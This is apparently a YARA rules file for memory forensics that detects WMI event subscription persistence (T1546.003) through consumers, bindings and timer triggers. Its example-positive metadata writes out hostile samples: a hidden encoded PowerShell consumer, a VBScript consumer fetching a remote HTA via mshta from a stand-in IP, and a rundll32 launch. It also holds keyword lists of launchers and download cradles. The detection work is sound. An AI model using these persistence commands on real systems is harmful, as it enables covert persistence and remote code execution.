/*
    Permanent WMI event subscriptions in non-image memory (T1546.003).

    A subscription is three instances in root\subscription: an __EventFilter (the WQL trigger), a
    consumer (CommandLineEventConsumer runs CommandLineTemplate/ExecutablePath, ActiveScriptEventConsumer
    runs ScriptText/ScriptFileName in scrcons.exe) and a __FilterToConsumerBinding whose Filter and
    Consumer properties are object paths such as __EventFilter.Name="x". They appear in the memory of
    the process that creates them (PowerShell/VBScript text, MOF source, marshalled PutInstance
    parameters) and in the WMI service that stores them, in ASCII or UTF-16.

    The class definitions themselves sit in every WMI service (repository cache) and in wbemcore.dll,
    so each rule needs instance-level evidence within 16 KiB: a consumer with a suspicious payload, a
    binding with object paths (or class names next to an instance-creation call), or a timer query
    next to a consumer.
*/

import "math"

rule WMI_Event_Consumer_Suspicious_Payload : wmi persistence
{
    meta:
        description = "Command-line or script event consumer with its CommandLineTemplate/ExecutablePath/ScriptText/ScriptFileName and a launcher payload (powershell, cmd /c, -enc, mshta, rundll32, regsvr32, WScript.Shell, download cradles) within 16 KiB, in non-image memory"
        severity = "high"
        mitre_attack = "T1546.003"
        reference = "https://attack.mitre.org/techniques/T1546/003/"
        scope = "non-image"
        author = "wmi-forensics"
        example_positive = "wide:$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='Updater'; CommandLineTemplate='powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='}"
        example_positive_2 = "ascii:instance of ActiveScriptEventConsumer as $Cons { Name = \"Upd\"; ScriptingEngine = \"VBScript\"; ScriptText = \"CreateObject(\\\"WScript.Shell\\\").Run \\\"mshta http://203.0.113.7/a.hta\\\"\"; };"
        example_positive_3 = "ascii:CommandLineEventConsumer + hex:00 + zeros:200 + ascii:CommandLineTemplate + hex:00 + zeros:300 + ascii:cmd.exe /c rundll32.exe C:\\Users\\Public\\upd.dll,Start + hex:00"
        example_near_miss = "wide:CommandLineEventConsumer + hex:00 00 + zeros:16 + wide:BVTConsumer + hex:00 00 + wide:CommandLineTemplate + hex:00 00 + wide:cscript KernCap.vbs + hex:00 00 + wide:WorkingDirectory + hex:00 00 + wide:C:\\tools\\kernrate"
        example_near_miss_2 = "wide:CommandLineTemplate + hex:00 00 + wide:powershell.exe -nop -enc SQBFAFgA"
        example_near_miss_3 = "ascii:ActiveScriptEventConsumer + hex:00 + ascii:ScriptText + hex:00 + zeros:20000 + ascii:powershell -enc SQBFAFgA"

    strings:
        $c_cmd = "CommandLineEventConsumer" ascii wide nocase
        $c_script = "ActiveScriptEventConsumer" ascii wide nocase

        $p_template = "CommandLineTemplate" ascii wide nocase
        $p_executable = "ExecutablePath" ascii wide nocase
        $p_script_text = "ScriptText" ascii wide nocase
        $p_script_file = "ScriptFileName" ascii wide nocase

        $x_powershell = "powershell" ascii wide nocase
        $x_pwsh = "pwsh.exe" ascii wide nocase
        $x_cmd_c = "cmd.exe /c" ascii wide nocase
        $x_cmd_c2 = "cmd /c" ascii wide nocase
        $x_cmd_qc = "cmd.exe /q /c" ascii wide nocase
        $x_enc = " -enc" ascii wide nocase
        $x_mshta = "mshta" ascii wide nocase
        $x_rundll32 = "rundll32" ascii wide nocase
        $x_regsvr32 = "regsvr32" ascii wide nocase
        $x_wscript_shell = "WScript.Shell" ascii wide nocase
        $x_certutil = "certutil" ascii wide nocase
        $x_bitsadmin = "bitsadmin" ascii wide nocase
        $x_xmlhttp = "XMLHTTP" ascii wide nocase
        $x_download = "DownloadString" ascii wide nocase
        $x_frombase64 = "FromBase64String" ascii wide nocase

    condition:
        for any i in (1..math.min(#p_template, 256)) : (
            any of ($c_*) in (@p_template[i] - 0x4000 .. @p_template[i] + 0x4000)
            and any of ($x_*) in (@p_template[i] - 0x4000 .. @p_template[i] + 0x4000)
        )
        or for any i in (1..math.min(#p_executable, 256)) : (
            $c_cmd in (@p_executable[i] - 0x4000 .. @p_executable[i] + 0x4000)
            and any of ($x_*) in (@p_executable[i] - 0x4000 .. @p_executable[i] + 0x4000)
        )
        or for any i in (1..math.min(#p_script_text, 256)) : (
            $c_script in (@p_script_text[i] - 0x4000 .. @p_script_text[i] + 0x4000)
            and any of ($x_*) in (@p_script_text[i] - 0x4000 .. @p_script_text[i] + 0x4000)
        )
        or for any i in (1..math.min(#p_script_file, 256)) : (
            $c_script in (@p_script_file[i] - 0x4000 .. @p_script_file[i] + 0x4000)
            and any of ($x_*) in (@p_script_file[i] - 0x4000 .. @p_script_file[i] + 0x4000)
        )
}

rule WMI_Event_Subscription_Binding : wmi persistence
{
    meta:
        description = "__FilterToConsumerBinding with an __EventFilter object path and a command-line or script consumer object path within 16 KiB (a stored or marshalled binding), or the three class names next to an instance-creation call (script or MOF creating the subscription), in non-image memory"
        severity = "medium"
        mitre_attack = "T1546.003"
        reference = "https://learn.microsoft.com/en-us/windows/win32/wmisdk/--filtertoconsumerbinding"
        scope = "non-image"
        author = "wmi-forensics"
        example_positive = "wide:__FilterToConsumerBinding + hex:00 00 + zeros:32 + wide:__EventFilter.Name=\"Updater\" + hex:00 00 + zeros:8 + wide:CommandLineEventConsumer.Name=\"Updater\" + hex:00 00"
        example_positive_2 = "wide:$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments $fa; $c = Set-WmiInstance -Namespace root\\subscription -Class ActiveScriptEventConsumer -Arguments $ca; Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f; Consumer=$c}"
        example_positive_3 = "ascii:instance of __EventFilter as $F { Name = \"Upd\"; }; instance of CommandLineEventConsumer as $C { Name = \"Upd\"; }; instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };"
        example_near_miss = "wide:__EventFilter + hex:00 00 + wide:SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
        example_near_miss_2 = "ascii:__FilterToConsumerBinding + hex:00 + zeros:64 + ascii:ref:__EventFilter + hex:00 + zeros:64 + ascii:ref:__EventConsumer + hex:00 + zeros:256 + ascii:CommandLineEventConsumer + hex:00"
        example_near_miss_3 = "wide:__FilterToConsumerBinding + hex:00 00 + wide:__EventFilter.Name=\"SCM Event Log Filter\" + hex:00 00 + wide:NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\""

    strings:
        $binding = "__FilterToConsumerBinding" ascii wide nocase
        $filter = "__EventFilter" ascii wide nocase
        $filter_path = "__EventFilter.Name=" ascii wide nocase
        $c_cmd = "CommandLineEventConsumer" ascii wide nocase
        $c_script = "ActiveScriptEventConsumer" ascii wide nocase
        $c_cmd_path = "CommandLineEventConsumer.Name=" ascii wide nocase
        $c_script_path = "ActiveScriptEventConsumer.Name=" ascii wide nocase

        $mk_set = "Set-WmiInstance" ascii wide nocase
        $mk_cim = "New-CimInstance" ascii wide nocase
        $mk_mof = "instance of " ascii wide nocase
        $mk_spawn = "SpawnInstance" ascii wide nocase
        $mk_create = "CreateInstance" ascii wide nocase

    condition:
        for any i in (1..math.min(#binding, 256)) : (
            (
                $filter_path in (@binding[i] - 0x4000 .. @binding[i] + 0x4000)
                and any of ($c_cmd_path, $c_script_path) in (@binding[i] - 0x4000 .. @binding[i] + 0x4000)
            )
            or (
                $filter in (@binding[i] - 0x4000 .. @binding[i] + 0x4000)
                and any of ($c_cmd, $c_script) in (@binding[i] - 0x4000 .. @binding[i] + 0x4000)
                and any of ($mk_*) in (@binding[i] - 0x4000 .. @binding[i] + 0x4000)
            )
        )
}

rule WMI_Event_Timer_Triggered_Consumer : wmi persistence
{
    meta:
        description = "Timer-driven subscription: a WQL filter on __TimerEvent naming a TimerID within 16 KiB of a command-line or script event consumer, in non-image memory (interval timers are how wmipersist, SharpWMI and many implants fire their consumer)"
        severity = "medium"
        mitre_attack = "T1546.003"
        reference = "https://learn.microsoft.com/en-us/windows/win32/wmisdk/--intervaltimerinstruction"
        scope = "non-image"
        author = "wmi-forensics"
        example_positive = "ascii:select * from __TimerEvent where TimerID = \"TI_Updater\" + hex:00 + zeros:64 + ascii:ActiveScriptEventConsumer + hex:00"
        example_positive_2 = "wide:__IntervalTimerInstruction + hex:00 00 + wide:SELECT * FROM __TimerEvent WHERE TimerId='Beacon' + hex:00 00 + zeros:128 + wide:CommandLineEventConsumer"
        example_near_miss = "wide:__IntervalTimerInstruction + hex:00 00 + wide:__TimerEvent + hex:00 00 + wide:TimerId + hex:00 00 + wide:IntervalBetweenEvents"
        example_near_miss_2 = "wide:SELECT * FROM __TimerEvent WHERE TimerID = 'Heartbeat' + hex:00 00 + wide:__EventFilter"

    strings:
        $timer_query = "__TimerEvent WHERE TimerID" ascii wide nocase
        $c_cmd = "CommandLineEventConsumer" ascii wide nocase
        $c_script = "ActiveScriptEventConsumer" ascii wide nocase

    condition:
        for any i in (1..math.min(#timer_query, 256)) : (any of ($c_*) in (@timer_query[i] - 0x4000 .. @timer_query[i] + 0x4000))
}
